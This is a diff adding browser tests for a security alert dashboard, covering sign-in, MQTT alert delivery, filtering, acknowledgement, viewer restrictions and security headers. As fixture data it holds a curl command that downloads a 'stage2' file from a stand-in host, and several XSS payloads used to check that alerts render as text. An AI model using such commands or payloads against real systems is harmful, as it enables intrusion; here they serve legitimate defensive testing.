@@ -1,0 +1,284 @@
+// The required browser tests: sign in; an alert ingested over MQTT shows up
+// on the alerts page within 1 s; filter; open; acknowledge; a viewer cannot
+// act; hostile command lines render as text; a screenshot of every page;
+// page-load figures. Tests run in order and share the backend state.
+
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import {
+  launch, context, signIn, shot, apiFromPage, publisher, median, ADMIN_PASSWORD, SEEDED_ALERTS, URL,
+} from './helpers.js';
+
+let browser;
+let admin;
+let page;
+let pub;
+let live;
+const marker = `ui-test-${Date.now().toString(36)}`;
+
+before(async () => {
+  browser = await launch();
+  admin = await context(browser);
+  page = await admin.newPage();
+  pub = await publisher();
+});
+
+after(async () => {
+  pub?.close();
+  await browser?.close();
+});
+
+test('security headers on the app and its assets', async () => {
+  const r = await fetch(`${URL}/`);
+  const csp = r.headers.get('content-security-policy');
+  assert.match(csp, /default-src 'self'/);
+  assert.match(csp, /script-src 'self'/);
+  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
+  assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
+  assert.equal(r.headers.get('referrer-policy'), 'no-referrer');
+  const html = await r.text();
+  const js = /src="([^"]+app\.js)"/.exec(html)[1];
+  const a = await fetch(`${URL}${js}`);
+  assert.equal(a.headers.get('content-type'), 'text/javascript; charset=utf-8');
+  assert.match(a.headers.get('cache-control'), /immutable/);
+});
+
+test('sign in', async () => {
+  await page.goto('/');
+  await page.locator('[data-testid=login]').waitFor();
+  await shot(page, 'login');
+  // A wrong password is refused with a message.
+  await page.locator('[data-testid=login] input[name=name]').fill('admin');
+  await page.locator('[data-testid=login] input[name=password]').fill('wrong-password');
+  await page.locator('[data-testid=login] button[type=submit]').click();
+  await page.locator('.form-error', { hasText: 'Wrong user name or password' }).waitFor();
+  await signIn(page, 'admin', ADMIN_PASSWORD);
+  assert.match(await page.locator('[data-testid=user]').textContent(), /admin/);
+  await page.locator('.overview[data-loaded]').waitFor({ timeout: 15000 });
+  await shot(page, 'overview');
+});
+
+test('alerts page: 100 rows, page-load figures', async () => {
+  const figures = [];
+  for (let i = 0; i < 5; i += 1) {
+    const p = await admin.newPage();
+    const t0 = Date.now();
+    await p.goto('/#/alerts');
+    await p.locator('[data-testid=alerts-table] tbody tr[data-id]').nth(99).waitFor();
+    figures.push(Date.now() - t0);
+    await p.close();
+  }
+  await page.goto('/#/alerts');
+  const rows = page.locator('[data-testid=alerts-table] tbody tr[data-id]');
+  await rows.nth(99).waitFor();
+  assert.equal(await rows.count(), 100);
+  // The next page by cursor.
+  const first = await rows.first().getAttribute('data-id');
+  const t0 = Date.now();
+  await page.locator('[data-testid=older]').click();
+  await page.waitForFunction((id) => {
+    const r = document.querySelector('[data-testid=alerts-table] tbody tr[data-id]');
+    return r && r.dataset.id !== id && document.querySelectorAll('[data-testid=alerts-table] tbody tr[data-id]').length === 100;
+  }, first);
+  const olderMs = Date.now() - t0;
+  console.log(`# page load: navigation to #/alerts until 100 rows rendered, ${SEEDED_ALERTS} stored alerts: median ${median(figures)} ms (runs: ${figures.join(', ')} ms); next page by cursor: ${olderMs} ms`);
+  assert.ok(median(figures) < 3000, 'alerts page loads in under 3 s');
+  await page.locator('[data-testid=newer]').click();
+  await page.waitForFunction((id) => document.querySelector('[data-testid=alerts-table] tbody tr[data-id]')?.dataset.id === id, first);
+  await shot(page, 'alerts');
+});
+
+test('an alert ingested over MQTT appears within 1 s', async () => {
+  // A fresh first page (the previous test left the list on page two).
+  await page.goto('/#/devices');
+  await page.goto('/#/alerts');
+  await page.locator('[data-testid=alerts-table] tbody tr[data-id]').nth(10).waitFor();
+  await page.waitForFunction(() => document.querySelector('.live-dot.live-live'));
+  const cmd = `/usr/bin/curl -fsSL http://${marker}.example.invalid/stage2 -o /tmp/.x`;
+  const r = await pub.publish({ command_line: cmd, level: 'critical', rule_title: `Live test ${marker}`, rule_id: `rule-${marker}` });
+  await page.locator(`[data-testid=alerts-table] tr[data-id="${r.id}"]`).waitFor({ timeout: 5000 });
+  const seen = Date.now();
+  const latency = seen - r.sent_ms;
+  console.log(`# live: publish → row on the alerts page in ${latency} ms (broker ack after ${r.acked_ms - r.sent_ms} ms)`);
+  assert.ok(latency < 1000, `alert shown ${latency} ms after publishing`);
+  live = { ...r, cmd };
+});
+
+test('filter', async () => {
+  assert.ok(live, 'needs the live alert');
+  await page.locator('[data-testid=filter-q]').fill(marker);
+  await page.waitForFunction(() => location.hash.includes('q='));
+  const rows = page.locator('[data-testid=alerts-table] tbody tr[data-id]');
+  await page.waitForFunction(() => document.querySelectorAll('[data-testid=alerts-table] tbody tr[data-id]').length === 1);
+  assert.equal(await rows.first().getAttribute('data-id'), live.id);
+  // Level filter: the live alert is critical, so "≥ high" keeps it...
+  await page.locator('[data-testid=filter-level]').selectOption('high');
+  await page.waitForFunction(() => location.hash.includes('level=high'));
+  await page.waitForFunction(() => document.querySelectorAll('[data-testid=alerts-table] tbody tr[data-id]').length === 1);
+  // ...and "resolved" drops it.
+  await page.locator('[data-testid=filter-status]').selectOption('resolved');
+  await page.waitForFunction(() => document.querySelectorAll('[data-testid=alerts-table] tbody tr[data-id]').length === 0);
+  await page.locator('[data-testid=filter-status]').selectOption('');
+  await page.waitForFunction(() => document.querySelectorAll('[data-testid=alerts-table] tbody tr[data-id]').length === 1);
+  // Filters survive a reload (they live in the URL).
+  await page.reload();
+  await page.locator(`[data-testid=alerts-table] tr[data-id="${live.id}"]`).waitFor();
+  assert.equal(await page.locator('[data-testid=filter-q]').inputValue(), marker);
+  // Technique filter from the other end: a parent matches sub-techniques.
+  await page.goto(`/#/alerts?technique=T1059&q=${marker}`);
+  await page.locator(`[data-testid=alerts-table] tr[data-id="${live.id}"]`).waitFor();
+  await page.goto(`/#/alerts?technique=T1003&q=${marker}`);
+  await page.locator('.empty', { hasText: 'No alerts match' }).waitFor();
+});
+
+test('open an alert', async () => {
+  await page.goto(`/#/alerts?q=${marker}`);
+  await page.locator(`[data-testid=alerts-table] tr[data-id="${live.id}"] td.subject`).click();
+  await page.waitForFunction((id) => location.hash === `#/alerts/${id}`, live.id);
+  await page.locator('[data-testid=alert-title]').waitFor();
+  assert.equal(await page.locator('[data-testid=alert-title]').textContent(), `Live test ${marker}`);
+  assert.equal(await page.locator('[data-testid=command-line]').textContent(), live.cmd);
+  assert.equal(await page.locator('[data-testid=rule-author]').textContent(), 'Picket UI tests');
+  assert.ok(await page.locator('[data-testid=parent-image]').count() === 1, 'process ancestry shows the parent');
+  const href = await page.locator('a.chip', { hasText: 'T1059.004' }).first().getAttribute('href');
+  assert.equal(href, 'https://attack.mitre.org/techniques/T1059/004/');
+  await shot(page, 'alert');
+});
+
+test('acknowledge, assign, note', async () => {
+  await page.goto(`/#/alerts/${live.id}`);
+  await page.locator('[data-testid=ack]').click();
+  await page.locator('.head-meta .badge.status-acknowledged').waitFor();
+  await page.locator('[data-testid=assign-me]').click();
+  await page.locator('.head-meta .chip', { hasText: 'assigned to admin' }).waitFor();
+  await page.locator('[data-testid=note-text]').fill('Looked at it: <b>benign</b> test traffic');
+  await page.locator('[data-testid=add-note]').click();
+  await page.locator('[data-testid=notes] .note-text', { hasText: '<b>benign</b>' }).waitFor();
+  // Stored, not just drawn.
+  const r = await apiFromPage(page, 'GET', `/alerts/${live.id}`);
+  const a = JSON.parse(r.body);
+  assert.equal(a.status, 'acknowledged');
+  assert.equal(a.assignee, 'admin');
+  assert.equal(a.notes.at(-1).text, 'Looked at it: <b>benign</b> test traffic');
+  await page.reload();
+  await page.locator('.head-meta .badge.status-acknowledged').waitFor();
+  // The history comes back from the audit log.
+  await page.locator('[data-testid=notes] li.event', { hasText: 'status → acknowledged' }).waitFor();
+  await shot(page, 'alert-acknowledged');
+});
+
+test('hostile command lines render as text', async () => {
+  const hostile = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>'];
+  const ids = [];
+  await page.goto('/#/alerts');
+  await page.locator('[data-testid=alerts-table] tbody tr[data-id]').nth(10).waitFor();
+  for (const cmd of hostile) {
+    const r = await pub.publish({ command_line: cmd, image: '"><svg onload=alert(2)>', level: 'high', rule_title: `XSS probe ${marker}`, rule_id: `xss-${marker}` });
+    ids.push(r.id);
+    // Live row.
+    const cell = page.locator(`[data-testid=alerts-table] tr[data-id="${r.id}"] td.subject`);
+    await cell.waitFor();
+    assert.equal(await cell.textContent(), cmd);
+  }
+  // Listed from the API.
+  await page.goto(`/#/alerts?q=${encodeURIComponent('alert(1)')}`);
+  for (const [i, id] of ids.entries()) {
+    const cell = page.locator(`[data-testid=alerts-table] tr[data-id="${id}"] td.subject`);
+    await cell.waitFor();
+    assert.equal(await cell.textContent(), hostile[i]);
+  }
+  // Detail page.
+  for (const [i, id] of ids.entries()) {
+    await page.goto(`/#/alerts/${id}`);
+    await page.locator('[data-testid=command-line]').waitFor();
+    assert.equal(await page.locator('[data-testid=command-line]').textContent(), hostile[i]);
+    assert.equal(await page.locator('[data-testid=image]').textContent(), '"><svg onload=alert(2)>');
+    assert.equal(await page.locator('main img, main script, main svg[onload]').count(), 0);
+  }
+  await page.waitForTimeout(300);
+  assert.deepEqual(admin.dialogs, [], 'no dialog fired');
+  await shot(page, 'alert-hostile');
+});
+
+test('a viewer sees no actions and the server refuses them', async () => {
+  // The admin creates the viewer through the Admin page.
+  await page.goto('/#/admin/users');
+  await page.locator('[data-testid=users-table] tbody tr').first().waitFor();
+  await shot(page, 'admin-users');
+  const viewerPassword = `viewer-${marker}`;
+  await page.locator('[data-testid=new-user-name]').fill(`viewer-${marker}`);
+  await page.locator('[data-testid=new-user-password]').fill(viewerPassword);
+  await page.locator('[data-testid=new-user-role]').selectOption('viewer');
+  await page.locator('[data-testid=create-user]').click();
+  await page.locator('[data-testid=users-table] td', { hasText: `viewer-${marker}` }).waitFor();
+
+  const vctx = await context(browser);
+  const v = await vctx.newPage();
+  await signIn(v, `viewer-${marker}`, viewerPassword);
+  assert.equal(await v.locator('nav [data-nav=admin]').count(), 0, 'no Admin link');
+  await v.goto(`/#/alerts/${live.id}`);
+  await v.locator('[data-testid=alert-title]').waitFor();
+  assert.equal(await v.locator('[data-testid=workflow]').count(), 0, 'no workflow buttons');
+  assert.equal(await v.locator('main button').count(), 0, 'no buttons at all on the alert page');
+  assert.equal(await v.locator('[data-testid=note-text]').count(), 0, 'no note form');
+  await shot(v, 'alert-viewer');
+  // The server refuses what the page does not offer.
+  const patch = await apiFromPage(v, 'PATCH', `/alerts/${live.id}`, { status: 'resolved' });
+  assert.equal(patch.status, 403);
+  const note = await apiFromPage(v, 'POST', `/alerts/${live.id}/notes`, { text: 'x' });
+  assert.equal(note.status, 403);
+  const users = await apiFromPage(v, 'GET', '/users');
+  assert.equal(users.status, 403);
+  const dev = await apiFromPage(v, 'GET', '/devices');
+  const d = JSON.parse(dev.body)[0];
+  await v.goto(`/#/devices/${d.id}`);
+  await v.locator('.device-page h1').waitFor();
+  assert.equal(await v.locator('[data-testid=revoke]').count(), 0, 'no revoke button');
+  assert.deepEqual(vctx.problems, []);
+  await vctx.close();
+});
+
+test('screenshots of the other pages', async () => {
+  await page.goto('/#/devices');
+  await page.locator('[data-testid=devices-table] tbody tr[data-id]').first().waitFor();
+  await shot(page, 'devices');
+  await page.locator('[data-testid=device-search]').fill('berlin');
+  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=devices-table] tbody tr[data-id] td:first-child')].every((td) => td.textContent.includes('berlin')));
+  // A device that has sent a heartbeat (its agent version is known).
+  const id = await page.evaluate(() => [...document.querySelectorAll('[data-testid=devices-table] tbody tr[data-id]')]
+    .find((tr) => tr.children[2].textContent !== '')?.dataset.id);
+  assert.ok(id, 'a device with a heartbeat');
+  await page.goto(`/#/devices/${id}`);
+  await page.locator('.device-page .alerts-table tbody tr').first().waitFor();
+  await page.locator('.device-page [data-testid=revoke]').waitFor();
+  await shot(page, 'device');
+  await page.goto('/#/rules');
+  await page.locator('[data-testid=rules-table]').waitFor({ timeout: 15000 });
+  await shot(page, 'rules');
+  await page.goto('/#/admin/tokens');
+  await page.locator('[data-testid=token-label]').fill('site 12 gateway');
+  await page.locator('[data-testid=create-token]').click();
+  await page.locator('[data-testid=token-value]').waitFor();
+  assert.match(await page.locator('[data-testid=token-value]').textContent(), /^[0-9a-f]{32,}$/);
+  await shot(page, 'admin-tokens');
+  await page.goto('/#/admin/audit');
+  await page.locator('[data-testid=audit-table] tbody tr').first().waitFor();
+  await page.locator('[data-testid=audit-table] td', { hasText: 'alert.update' }).first().waitFor();
+  await shot(page, 'admin-audit');
+  await page.goto('/#/?range=7d');
+  await page.locator('.overview[data-loaded]').waitFor({ timeout: 15000 });
+  await shot(page, 'overview-7d');
+});
+
+test('no script errors or CSP violations', async () => {
+  assert.deepEqual(admin.problems, []);
+  assert.deepEqual(admin.dialogs, []);
+});
+
+test('sign out', async () => {
+  await page.goto('/#/alerts');
+  await page.locator('[data-testid=signout]').click();
+  await page.locator('[data-testid=login]').waitFor();
+  const me = await apiFromPage(page, 'GET', '/auth/me');
+  assert.equal(me.status, 401);
+});
